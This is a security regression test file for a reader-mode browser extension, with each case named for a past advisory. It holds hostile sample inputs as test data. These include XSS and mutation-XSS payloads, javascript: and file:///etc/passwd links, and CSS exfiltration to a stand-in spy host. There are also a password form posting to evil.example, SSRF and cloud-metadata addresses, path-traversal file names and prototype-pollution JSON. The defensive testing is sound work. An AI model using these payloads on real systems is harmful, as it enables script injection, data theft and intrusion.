import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import type { Article } from '@/article/article';
import { extractArticle } from '@/article/extract-article';
import { parseInertly, sanitize, sanitizeToFragment } from '@/article/sanitize';
import { makeFileName } from '@/export/make-file-name';
import { parseArticle } from '@/library/article-schema';
import { isPrivateAddress } from '@/library/is-private-address';
import { english } from '@/locales/en';
import { type MessageHandlers, receiveMessages } from '@/platform/receive-messages';
import { renderArticle } from '@/reader/render-article';
import { findLeftovers } from '../../scripts/trust/find-leftovers';

/** Each test is named for the advisory whose class of mistake it would catch. */

const PARAGRAPH =
  'The harbor was dredged again this spring, and the men who did it say the mud of each year has a color of its own. ' +
  'They lay samples side by side on the quay and read them like pages, from the flood of April to the dry weeks of June.';
const TEXT = `<p>${PARAGRAPH}</p>`.repeat(4);
const MARKUP = '<img src=x onerror=alert(1)>';

function read(head: string, body = '', url = 'https://page.example/story'): Article {
  const document = parseInertly(
    `<!doctype html><html><head>${head}</head><body><article><h1>Harbor</h1>${TEXT}${body}</article></body></html>`,
  );
  const result = extractArticle(document, { url });
  if (!result.ok) throw new Error(result.reason);
  return result.article;
}

/** The article as it stands on either surface, in nodes. */
function show(article: Article): HTMLElement {
  const body = sanitizeToFragment(article.html, document);
  if (!body) throw new Error('not safe');
  return renderArticle({ document, article, body, strings: english, pictureSource: () => null });
}

function clean(html: string): Element {
  const out = sanitize(html, document);
  if (out === null) throw new Error('refused');
  const holder = parseInertly(`<!doctype html><body><div>${out}</div>`).querySelector('div') as Element;
  expect(findLeftovers(holder)).toEqual([]);
  return holder;
}

describe('page text that lands in the reader’s own markup', () => {
  const escaped = MARKUP.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  it.each([
    ['CVE-2021-29944 (title)', `<title>Harbor ${escaped}</title>`],
    ['CVE-2023-49061 (byline)', `<title>Harbor</title><meta name=author content="${escaped}">`],
    ['brave-ios#4208 (site name)', `<title>Harbor</title><meta property=og:site_name content="${escaped}">`],
    [
      'CVE-2026-9309 (JSON-LD)',
      `<title>Harbor</title><script type="application/ld+json">{"@type":"NewsArticle","headline":"Harbor ${MARKUP}","author":{"name":"${MARKUP}"},"articleSection":"${MARKUP}"}</script>`,
    ],
    [
      'CVE-2026-9308 (placeholder in page text)',
      "<title>%READER-BYLINE% $& {{title}}</title><meta name=author content='%READER-TITLE% $` <b>'>",
    ],
    [
      'Shaarli CVE-2026-24476 (tags and section)',
      `<title>Harbor</title><meta name=keywords content="${escaped}, b"><meta property=article:section content="${escaped}"><meta property=article:tag content="${escaped}">`,
    ],
    [
      'Miniflux CVE-2023-27592 (dates and languages)',
      `<title>Harbor</title><meta property=article:published_time content='2026-01-01"><script>'>`,
    ],
  ])('%s', (_name, head) => {
    const shown = show(read(head));
    expect(shown.querySelectorAll('script, b, [onerror]')).toHaveLength(0);
    expect(shown.querySelector('.head img')).toBeNull();
    expect(shown.querySelectorAll('.head h1')).toHaveLength(1);
  });

  it('CVE-2023-49061, CVE-2026-9308: a placeholder in the text stays the words it is', () => {
    const article = read(
      '<title>Harbor</title>',
      '<p>The template said %READER-TITLE% and $& and $` and {{byline}}, which nobody had filled in yet.</p>',
    );
    expect(show(article).textContent).toContain('%READER-TITLE% and $& and $` and {{byline}}');
  });
});

describe('addresses', () => {
  it('CVE-2015-4508, CVE-2017-5463, CVE-2017-7762: the address is the document’s, whatever base, canonical and user names say', () => {
    const heads = [
      '<base href="https://bank.example/">',
      '<link rel=canonical href="https://bank.example/login">',
      '<link rel=canonical href="javascript:alert(1)">',
      '<meta property=og:url content="data:text/html,x">',
      '<link rel=canonical href="https://page.example@bank.example/">',
      '<link rel=canonical href="chrome-extension://abc/library.html">',
    ];
    for (const head of heads) {
      const article = read(`<title>Harbor</title>${head}`);
      expect(article.url).toBe('https://page.example/story');
      expect(new URL(article.canonicalUrl).hostname).toBe('page.example');
    }
  });

  it('CVE-2015-0798, Joplin #9979, Miniflux 6543d652, defuddle GHSA-jg4p-g6xj-4qmf: only http, https, mailto and in-page links live', () => {
    const bad = [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' javascript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:alert(1)',
      'vbscript:x',
      'data:text/html,x',
      'file:///etc/passwd',
      'chrome://settings',
      'about:config',
      'moz-extension://a/b',
      '\\\\server\\share',
      '//evil.example',
      'relative',
      'ftp://a.example/',
      'blob:https://a.example/1',
      'view-source:https://a.example/',
      'smb://a/b',
      'intent://x',
    ];
    for (const href of bad) {
      const link = document.createElement('a');
      link.setAttribute('href', href);
      link.textContent = 'words';
      expect(clean(link.outerHTML).querySelector('[href]'), href).toBeNull();
    }
    const good = ['https://a.example/', 'HTTP://a.example/', 'mailto:a@b.example', '#note'];
    for (const href of good) expect(clean(`<a href="${href}">words</a>`).querySelector('[href]'), href).not.toBeNull();
  });

  it('a picture’s address that no browser could follow is no address', () => {
    expect(clean('<img src="https://</p>img.example/a.jpg" alt=a>').querySelector('img')).toBeNull();
    expect(clean('<img src="https://img.example/a.jpg" alt=a>').querySelector('img')).not.toBeNull();
  });

  it('CVE-2023-49060: a link decides nothing about its referrer, target or opener', () => {
    const link = clean(
      '<a href="https://a.example/" referrerpolicy=unsafe-url target=_top rel=opener ping="https://spy.example/" download=x>words</a>',
    ).querySelector('a');
    expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link?.getAttributeNames().sort()).toEqual(['href', 'referrerpolicy', 'rel']);
  });

  it('wallabag, Shaarli, Joplin: a stored record with an address that is no web address is refused', () => {
    const article = read('<title>Harbor</title>');
    for (const field of ['url', 'canonicalUrl'] as const)
      for (const value of ['javascript:alert(1)', 'file:///x', 'data:text/html,x', ''])
        expect(parseArticle({ ...article, [field]: value })).toBeNull();
    expect(
      parseArticle({ ...article, leadPicture: { src: 'javascript:alert(1)', alt: '', caption: null, width: 1, height: 1 } }),
    ).toBeNull();
  });
});

describe('markup that must not survive', () => {
  it.each([
    [
      'CVE-2015-4518, WordPress-style SVG animation',
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    ],
    ['Joplin CVE-2020-15930 (embed)', '<embed src="javascript:alert(1)"><object data="data:text/html,x"></object>'],
    ['Joplin CVE-2021-33295 (noscript)', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['Joplin PR #15435 (svg handlers)', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
    ['Miniflux 3b5a7ee4 (frames)', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['mutation: math and style', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
    ['mutation: form nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
    ['mutation: a link inside a link', `<a href="https://a.example/">${'<table><a href="https://b.example/">'.repeat(8)}${MARKUP}`],
    [
      'CSS exfiltration',
      '<style>p{background:url(https://spy.example/)}</style><p style="background:url(https://spy.example/)" class=reader>x</p>',
    ],
    [
      'Readability video expression',
      '<iframe src="https://evil.example/?player.vimeo.com"></iframe><object data="x" title="youtube.com">y</object>',
    ],
    [
      'Joplin CVE-2022-35131, CVE-2023-33726, CVE-2023-33727, #3143',
      '<a href="#" onclick=alert(1)><img src=x:x onerror=alert(1)></a><style onload=alert(1)></style>',
    ],
    [
      'Readability rewrites noscript',
      '<img src=/a.gif alt=a><noscript><img src=/b.jpg onerror=alert(1)><script>alert(1)</script></noscript>',
    ],
    [
      'Readability promotes lazy attributes',
      '<img alt=a data-x="javascript:alert(1).jpg" data-src="data:text/html,<script>alert(1)</script>#.png">',
    ],
    [
      'Miniflux CVE-2025-31483, fe2bfb27 (SVG as a picture)',
      "<img alt=a src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    ],
    [
      'Shaarli CVE-2026-48823 (breaking out of an attribute)',
      '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)" title="&quot;><img src=x onerror=alert(1)>">x</a>',
    ],
    ['WebToEpub#2045', `<div onclick=alert(1)>${MARKUP}</div>`],
    [
      'Print Friendly, keepassxc: form parts',
      '<form action="https://evil.example"><input name=password type=password><button>go</button></form>',
    ],
  ])('%s', (_name, html) => {
    clean(html);
    const article = read('<title>Harbor</title>', html);
    expect(findLeftovers(parseInertly(`<body><div>${article.html}</div>`).querySelector('div') as Element)).toEqual([]);
  });

  it('defuddle #139, firefox-ios #17157, mozilla/readability#404, feedpon#9, txtdot#61, Folo #2000, NetNewsWire#3410: what was taken out passes the same sanitizer as what stays', () => {
    const article = read(
      '<title>Harbor</title>',
      `<div class="ad"><span>Advertisement</span>${MARKUP}<a href="javascript:alert(1)">buy</a></div><p>${PARAGRAPH}</p>`,
    );
    for (const block of article.removed) clean(block.html);
    for (const block of article.removed) expect(sanitize(block.html, document)).toBe(block.html);
  });

  it('every way to the screen fails closed when there is no working sanitizer', () => {
    const broken = { defaultView: { document: {} } } as unknown as Document;
    expect(sanitize('<p>x</p>', broken)).toBeNull();
    expect(sanitizeToFragment('<p>x</p>', broken)).toBeNull();
  });
});

describe('customized elements', () => {
  it.each([
    ['by attribute', '<p is="x-spy">words</p>'],
    ['inside others', '<div is=x-a><section><p is="x-spy" id=a>words</p></section></div>'],
    ['in odd writing', '<p IS = x-spy>words</p><p\nis=x-spy>more</p>'],
  ])('%s come out as plain ones, so that no code of the page runs on them inside the reader', (_name, html) => {
    expect(clean(html).innerHTML).not.toMatch(/\sis\s*=/i);
    expect(sanitizeToFragment(html, document)?.querySelector('[is]')).toBeNull();
    const made = document.createElement('p', { is: 'x-spy' } as ElementCreationOptions);
    made.textContent = 'made by a script';
    expect(sanitize(made, document)).toBe('<p>made by a script</p>');
  });

  it('keep their words, also where these look like it', () => {
    expect(sanitize('<p>What this is = nobody knows: x is="y"</p>', document)).toBe('<p>What this is = nobody knows: x is="y"</p>');
  });
});

describe('requests', () => {
  it('SingleFile#724: a saved article asks for nothing but what the surface allows', () => {
    const article = read(
      '<title>Harbor</title>',
      '<figure><img src="https://spy.example/pixel.gif" alt="a bridge" srcset="https://spy.example/2x.gif 2x"><figcaption>The bridge</figcaption></figure>',
    );
    const shown = show(article);
    expect([...shown.querySelectorAll('[src], [srcset], [poster], [data], [background]')]).toEqual([]);
  });

  it('nodes for the screen belong to an inert document, so that no picture is fetched before the surface has had its say', () => {
    const fragment = sanitizeToFragment('<img src="https://spy.example/pixel.gif">', document);
    expect(fragment?.ownerDocument).not.toBe(document);
    expect(fragment?.ownerDocument.defaultView).toBeNull();
  });

  it('CVE-2018-5119, CVE-2022-29912, Linkwarden CVE-2026-44313: reading fetches nothing', () => {
    const fetching = vi.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('must not be called'));
    read(
      '<title>Harbor</title><link rel=amphtml href="https://page.example/amp"><link rel=next href="https://page.example/2">',
      '<a rel=next href="https://page.example/2">Next page</a>',
    );
    expect(fetching).not.toHaveBeenCalled();
    fetching.mockRestore();
  });
});

describe('pages that hide a form’s own members', () => {
  const names = [
    'parentNode',
    'nextElementSibling',
    'tagName',
    'localName',
    'getAttribute',
    'attributes',
    'children',
    'childNodes',
    'firstElementChild',
    'innerHTML',
    'textContent',
    'querySelectorAll',
    'removeChild',
    'remove',
    'closest',
    'contains',
    'cloneNode',
    'shadowRoot',
    'ownerDocument',
    'namespaceURI',
    'nodeType',
    'style',
    'id',
    'matches',
    'append',
    'replaceWith',
  ];
  it.each(names)('Readability never hangs on <input name="%s">', (name) => {
    const document = parseInertly(
      `<title>Harbor</title><form><input name="${name}"><img id="${name}"><article><h1>Harbor</h1>${TEXT}</article></form>`,
    );
    const result = extractArticle(document, { url: 'https://page.example/' });
    expect(result.ok && result.article.text).toContain('The harbor was dredged');
  });
});

describe('resources', () => {
  it('GHSA-3p6v-hrg8-8qj7: floods of spaces and separators in a title cost no time', () => {
    const before = process.cpuUsage();
    for (const flood of [' '.repeat(100_000), ' - '.repeat(40_000), '»'.repeat(100_000), '\t|'.repeat(50_000), 'a: '.repeat(40_000)])
      read(`<title>Harbor ${flood} x</title><meta name=author content="${flood}">`);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(5_000);
  });

  it('a document deeper than 1,000 levels or larger than 100,000 elements is refused before any work', { timeout: 60_000 }, () => {
    const deep = document.implementation.createHTMLDocument('deep');
    let at: Element = deep.body;
    for (let level = 0; level < 1_200; level++) {
      const next = deep.createElement('div');
      at.append(next);
      at = next;
    }
    expect(extractArticle(deep, { url: 'https://page.example/' })).toEqual({ ok: false, reason: 'too-deep' });
    const wide = document.implementation.createHTMLDocument('wide');
    const box = wide.createDocumentFragment();
    for (let count = 0; count <= 100_000; count++) box.append(wide.createElement('i'));
    wide.body.append(box);
    expect(extractArticle(wide, { url: 'https://page.example/' })).toEqual({ ok: false, reason: 'too-large' });
  });

  it('JSON-LD of any depth or size breaks nothing and pollutes nothing', () => {
    const deep = `${'{"@graph":['.repeat(5_000)}${']}'.repeat(5_000)}`;
    const evil = '{"@type":"NewsArticle","headline":"Harbor","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    const article = read(
      `<title>Harbor</title><script type="application/ld+json">${deep}</script><script type="application/ld+json">${evil}</script>`,
    );
    expect(article.title).toBe('Harbor');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const parsed = parseArticle(JSON.parse(JSON.stringify(article).replace('{', '{"__proto__":{"polluted":1},')));
    expect(parsed && 'polluted' in parsed).toBe(false);
  });

  it('defuddle a432eae: reading leaves the page exactly as it was', () => {
    const page = parseInertly(
      `<title>Harbor</title><article style="color:red"><h1>Harbor</h1>${TEXT}<form><input name=style></form></article>`,
    );
    const before = page.documentElement.outerHTML;
    extractArticle(page, { url: 'https://page.example/' });
    expect(page.documentElement.outerHTML).toBe(before);
  });
});

describe('open shadow roots', () => {
  it('are copied into the inert document and never cloned in the living one, where their pictures would load and their handlers run', () => {
    const host = document.createElement('div');
    host.attachShadow({ mode: 'open' }).innerHTML = `${TEXT}<img src="x" onerror="alert(1)">`;
    document.body.replaceChildren(host);
    const cloning = vi.spyOn(Element.prototype, 'cloneNode');
    extractArticle(document, { url: 'https://page.example/' });
    const cloned = cloning.mock.contexts as unknown as readonly Element[];
    expect(cloned.filter((element) => element.ownerDocument === document).map((element) => element.localName)).toEqual([]);
    cloning.mockRestore();
    document.body.replaceChildren();
  });

  it('are left behind when copying them would break the tab', () => {
    const host = document.createElement('div');
    let at: Node = host.attachShadow({ mode: 'open' });
    for (let level = 0; level < 3_000; level++) at = at.appendChild(document.createElement('div'));
    const article = document.createElement('article');
    for (let count = 0; count < 4; count++) article.append(Object.assign(document.createElement('p'), { textContent: PARAGRAPH }));
    document.body.replaceChildren(article, host);
    const result = extractArticle(document, { url: 'https://page.example/' });
    expect(result.ok && result.article.text).toContain('The harbor was dredged');
    document.body.replaceChildren();
  });
});

describe('messages', () => {
  const OWN = 'sade-own-id';
  type Listener = (message: unknown, sender: object, respond: (reply: unknown) => void) => unknown;
  const handlers = new Proxy({}, { get: () => async () => ({ ok: true }) }) as MessageHandlers;
  const listen = (): Listener => {
    let listener: Listener | undefined;
    vi.spyOn(fakeBrowser.runtime, 'id', 'get').mockReturnValue(OWN);
    vi.spyOn(fakeBrowser.runtime, 'getURL').mockImplementation((path: string) => `chrome-extension://${OWN}${path}`);
    vi.spyOn(fakeBrowser.runtime.onMessage, 'addListener').mockImplementation((added: unknown) => {
      listener = added as Listener;
    });
    receiveMessages(handlers);
    return listener as Listener;
  };
  const page = { id: OWN, url: 'https://page.example/', frameId: 0, tab: { id: 7 } };
  const own = { id: OWN, url: `chrome-extension://${OWN}/popup.html` };
  const save = { type: 'article/save', article: {} };

  it.each([
    ['Evernote CVE-2019-12592 (a frame of a page)', save, { ...page, frameId: 3 }],
    ['ghostery #3518, augury #1030 (another extension)', save, { ...page, id: 'somebody-else' }],
    ['wallabag GHSA-qwx8-mxxx-mg96 (a page asks for what only we may)', { type: 'tab/save', tabId: 1 }, page],
    ['a page that wants Sade to open on another site', { type: 'auto-open/choose', url: 'https://other.example/', isOn: true }, page],
    ['a page that wants Sade to pause', { type: 'auto-open/pause', isPaused: true }, page],
    ['a choice for what is no web page', { type: 'auto-open/choose', url: 'javascript:alert(1)', isOn: true }, own],
    ['a choice of a wrong shape', { type: 'auto-open/choose', url: 'https://other.example/', isOn: 'yes' }, own],
    ['a page that keeps us awake', { type: 'background/wake' }, page],
    ['a pause of a wrong shape', { type: 'auto-open/pause' }, own],
    [
      'vim-vixen#251 (a page that calls itself ours)',
      { type: 'tab/save', tabId: 1 },
      { ...page, url: 'https://page.example/chrome-extension://sade-own-id/popup.html' },
    ],
    ['cat-catch#986 (an unknown word)', { type: 'constructor' }, page],
    ['an inherited word', Object.create({ type: 'tab/save', tabId: 1 }), own],
    ['a wrong shape', { type: 'tab/save', tabId: '1' }, own],
    ['no address', save, { id: OWN, tab: { id: 7 }, frameId: 0 }],
    ['no object', null, page],
  ])('from %s get no answer', (_name, message, sender) => {
    const respond = vi.fn();
    expect(listen()(message, sender, respond)).not.toBe(true);
    expect(respond).not.toHaveBeenCalled();
  });

  it('from our own script in a page and from our own pages are answered', async () => {
    for (const [message, sender] of [
      [save, page],
      [{ type: 'tab/save', tabId: 1 }, own],
      [{ type: 'auto-open/choose', url: 'https://page.example/a', isOn: true }, own],
      [{ type: 'auto-open/pause', isPaused: false }, own],
    ] as const) {
      const respond = vi.fn();
      expect(listen()(message, sender, respond)).toBe(true);
      await vi.waitFor(() => expect(respond).toHaveBeenCalledWith({ ok: true }));
    }
  });
});

describe('files and networks', () => {
  it('Joplin CVE-2020-15844: a title makes a file name, never a path', () => {
    for (const title of ['../../etc/passwd', '..\\..\\x', 'C:\\boot.ini', 'a/b', 'con', '.htaccess', 'x\u0000.html', '\u202Eexe.fdp', '']) {
      const name = makeFileName(title, '.md');
      expect(name).not.toMatch(/[/\\:\0\u202E]|^\.|^$/);
      expect(name).not.toMatch(/^con(?:\.|$)/i);
    }
  });

  it('Linkwarden CVE-2026-44313, karakeep #2759, #2760, #2082, omnivore #4656: pictures are never fetched from a private network', () => {
    const addresses =
      'http://localhost/ http://127.0.0.1/ http://127.1/ http://0x7f000001/ http://2130706433/ http://10.0.0.1/ http://192.168.1.1/ http://172.16.0.1/ http://169.254.169.254/ http://[::1]/ http://[fe80::1]/ http://[fd00::1]/ http://[::ffff:127.0.0.1]/ http://0.0.0.0/ http://router.local/';
    for (const address of addresses.split(' ')) expect(isPrivateAddress(address), address).toBe(true);
    expect(isPrivateAddress('https://example.org/a.png')).toBe(false);
  });

  it('brave-browser#35797, #36259, brave-core #22276: no content policy is made from anything of a page', () => {
    const files = ['src', 'entrypoints'].flatMap((folder) =>
      readdirSync(folder, { recursive: true, encoding: 'utf8' })
        .filter((name) => /\.tsx?$/.test(name))
        .map((name) => `${folder}/${name}`),
    );
    const found = files.filter((file) => /content-security-policy/i.test(readFileSync(file, 'utf8')));
    expect(found).toEqual(['src/export/formats/write-html-file.ts']);
  });
});
